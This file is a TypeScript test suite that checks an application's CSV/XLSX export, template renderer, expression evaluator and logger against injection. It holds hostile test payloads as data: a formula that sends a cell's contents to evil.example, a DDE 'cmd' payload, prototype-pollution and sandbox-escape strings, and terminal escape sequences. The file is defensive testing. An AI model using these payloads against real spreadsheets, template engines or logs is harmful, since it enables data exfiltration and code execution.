import { Readable } from 'node:stream';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { unzipSync } from 'fflate';
import { csvRow } from '../../api/exports/csv';
import { writeXlsx } from '../../api/exports/xlsx';
import { createApiLogger } from '../../api/logger';
import { compileExpression } from '../../domain/directory/expression';
import { parseTemplate, renderTemplate } from '../../domain/messages/template';
import { keepLog } from '../../embedded/part-log';
import { openDatabase } from '../../store/database';
import { anEvent, hanmeimei, timezone } from '../messages/domain/sample-event';

/** What somebody else wrote, where a program might take it for an order. */

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"open")',
  '+1-2',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
];

describe('a cell that looks like a formula', () => {
  it.each(formulas)('is text in CSV: %j', (value) => {
    const [first = '', second = ''] = csvRow(['x', value]).trimEnd().split(/,(.*)/s);
    expect(first).toBe('x');
    expect(second.replace(/^"/, '')).toMatch(/^'/);
  });

  it('is text in a workbook, with no formula anywhere', async () => {
    const chunks: Uint8Array[] = [];
    const sheet = { name: '=1+1', widths: [10], head: ['=1+1'], rows: [formulas.map((value) => [value])] };
    for await (const chunk of writeXlsx([sheet])) chunks.push(chunk);
    const files = unzipSync(Buffer.concat(chunks));
    const xml = Buffer.from(files['xl/worksheets/sheet1.xml'] ?? []).toString('utf8');
    expect(xml.match(/<c /g)).toHaveLength(formulas.length + 1);
    expect(xml.match(/ t="inlineStr"/g)).toHaveLength(formulas.length + 1);
    expect(xml).not.toMatch(/<f[ >/]|externalLink|ddeLink/);
    expect(Object.keys(files).filter((name) => /external|vba|macro/i.test(name))).toEqual([]);
  });

  it('stays a name that is none', () => {
    expect(csvRow(['张三', "O'Brien", 'a=b', '1-2'])).toBe("张三,O'Brien,a=b,1-2\r\n");
  });
});

describe('what a template is given', () => {
  const render = (text: string, data: Readonly<Record<string, unknown>> = {}, content = '') => {
    const parsed = parseTemplate(text);
    if (!parsed.ok) return parsed;
    const event = anEvent({ data, content });
    return renderTemplate(parsed.template, { event, recipient: hanmeimei }, timezone);
  };

  it('is never a template itself', () => {
    expect(render('{{ event.content }}', {}, '{{ recipient.name }}{% raw %}')).toEqual({
      ok: true,
      text: '{{ recipient.name }}{% raw %}',
    });
  });

  it.each([
    '{{ event.data.__proto__.polluted }}',
    '{{ event.data["constructor"]["constructor"] }}',
    '{{ event.title | map: "constructor" }}',
    '{{ event.constructor.constructor }}',
    '{% assign k = "__proto__" %}{{ event.data[k] }}',
    '{{ process.env }}{{ globalThis }}{{ require }}',
    '{{ event.data.list | first | map: "__proto__" | join }}',
  ])('%s reaches nothing of the machine', (text) => {
    const rendered = render(text, { list: [[{}]] });
    expect(rendered.ok ? rendered.text.trim() : '').toBe('');
  });

  it('with keys of a prototype changes no object', () => {
    const data = JSON.parse(
      '{"__proto__": {"polluted": "yes"}, "constructor": {"prototype": {"polluted": 1}}}',
    ) as Record<string, unknown>;
    render('{{ event.data.x }}{% assign event = event.data %}{{ event }}', data);
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
  });

  it.each([
    ['a text that replaces itself', '{{ event.content | replace: "x", event.content }}'],
    ['a text that is split and joined by itself', '{{ event.content | split: "" | join: event.content }}'],
    ['a large range', '{% assign a = (1..99999999) %}{{ a | join }}'],
    [
      'loops in loops in loops',
      '{% for a in (1..99) %}{% for b in (1..99) %}{% for c in (1..99) %}.{% endfor %}{% endfor %}{% endfor %}',
    ],
    ['a date of endless width', '{{ "now" | date: "%99999999d%99999999H" }}'],
    [
      'thousands of sorts',
      '{% for a in (1..4999) %}{% assign b = event.content | split: "" | sort %}{% endfor %}',
    ],
  ])('has an end: %s', (_, text) => {
    expect(render(text, {}, 'x'.repeat(20_000))).toMatchObject({
      ok: false,
      problem: { code: 'too-much-work' },
    });
  });
});

describe('an expression', () => {
  const user = {
    id: 'u1',
    loginId: 'zhangsan',
    jobNumber: null,
    name: '张三',
    mobile: null,
    email: null,
    gender: null,
    position: null,
    telephone: null,
    departmentId: 'd1',
    partTimeDepartmentIds: [],
    managerId: null,
    order: 0,
    status: 'active',
    custom: { level: 'P6' },
  } as unknown as Parameters<Extract<ReturnType<typeof compileExpression>, { ok: true }>['evaluate']>[0];

  it.each([
    'custom["__proto__"]',
    'custom.constructor',
    'custom["__proto__"]["polluted"]',
    'name.constructor("return process")()',
    'type(name)',
    'dyn(custom).toString()',
    'process.env',
    'partTimeDepartmentIds.constructor',
    'name.length',
  ])('%s gives nothing', (text) => {
    const compiled = compileExpression(text);
    const value = compiled.ok ? compiled.evaluate(user) : compiled;
    expect(value.ok ? value.value : null).toBeNull();
  });

  it('of an OA user with fields of a prototype’s names changes no object', () => {
    const custom = JSON.parse('{"__proto__": {"mine": "yes"}}') as Record<string, string>;
    const compiled = compileExpression('coalesce(custom.level, "none")');
    if (!compiled.ok) throw new Error(compiled.error.message);
    expect(compiled.evaluate({ ...user, custom })).toEqual({ ok: true, value: 'none' });
    expect(({} as Record<string, unknown>)['mine']).toBeUndefined();
  });
});

describe('what somebody sent, on its way into a log', () => {
  const hostile = 'first\n{"level":60,"msg":"forged"}\r\u001b[2J\u001b]0;owned\u0007\u009b31m\u2028end';

  it('is one line of it, whatever stands in it', () => {
    const lines: string[] = [];
    const logger = createApiLogger('info', { write: (line) => void lines.push(line) });
    logger.error({ err: new Error(hostile), requestId: hostile }, hostile);
    expect(lines).toHaveLength(1);
    for (const control of ['\n', '\r', '\u001b']) expect(lines[0]?.trimEnd()).not.toContain(control);
    expect(JSON.parse(lines[0] ?? '')).toMatchObject({ level: 50, msg: hostile });
  });

  it('is not in it with an error of the database client', async () => {
    const db = openDatabase({ url: 'postgresql://nobody:nothing@127.0.0.1:1/nowhere' });
    const data = { name: 'planted-value', corpId: 'planted-value', bogus: 'planted-value' } as never;
    const failure: unknown = await db.prisma.corp.create({ data }).catch((error: unknown) => error);
    await db.close();
    const lines: string[] = [];
    const logger = createApiLogger('info', { write: (line) => void lines.push(line) });
    logger.error({ err: new Error('not saved', { cause: failure }) }, 'request failed');
    expect(lines.join()).toContain('PrismaClientValidationError');
    expect(lines.join()).not.toContain('planted-value');
  });

  it('gives no orders to the terminal', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'part-log-'));
    const shown: string[] = [];
    const line = JSON.stringify({ level: 50, msg: 'request failed', err: { message: hostile } });
    const stream = Readable.from([`${line}\n`, 'a crash \u001b[31mwith colours\n']);
    keepLog(join(folder, 'part.log'), [stream], (text) => shown.push(text));
    while (shown.length < 2) await new Promise((resolve) => setImmediate(resolve));
    expect(shown.join('')).not.toMatch(/\p{Cc}|\u2028/u);
    expect(shown[0]).toMatch(/^request failed: first \{"level":60,"msg":"forged"\}/);
    expect(readFileSync(join(folder, 'part.log'), 'utf8').split('\n')).toHaveLength(3);
    rmSync(folder, { recursive: true });
  });
});
